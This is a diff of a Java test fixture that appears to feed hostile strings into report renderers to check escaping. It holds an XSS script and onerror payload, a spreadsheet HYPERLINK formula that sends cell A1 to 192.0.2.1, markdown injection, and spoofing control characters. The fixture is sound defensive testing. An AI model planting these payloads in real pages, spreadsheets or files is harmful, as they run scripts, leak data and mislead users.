@@ -20,11 +20,11 @@ import java.util.ArrayList;
 import java.util.List;
 
 /** A report of a host that means harm: each of its texts would act in some format, and some are 64 KiB long. */
-final class HostileReport {
+public final class HostileReport {
 
     static final String MARKUP =
             "</td></script><script>window.pwned=1</script><img src=x onerror=\"window.pwned=1\">'\"&amp;]]>";
-    static final String FORMULA = "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"click\"),x";
+    static final String FORMULA = "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"click\")";
     static final String MARKDOWN =
             "](http://192.0.2.1) ![x](http://192.0.2.1/x.png) <img src=x> | `` # @everyone www.example.com 1. x";
     static final String CONTROLS = "\u202Egnp.exe\u0000\u001b[2J\r\n# HELP planted\u2028\ud800 \ufffe";
@@ -32,7 +32,7 @@ final class HostileReport {
 
     private HostileReport() {}
 
-    static Report report() {
+    public static Report report() {
         List<Finding> findings = new ArrayList<>();
         List<Fact> facts = new ArrayList<>();
         int number = 0;
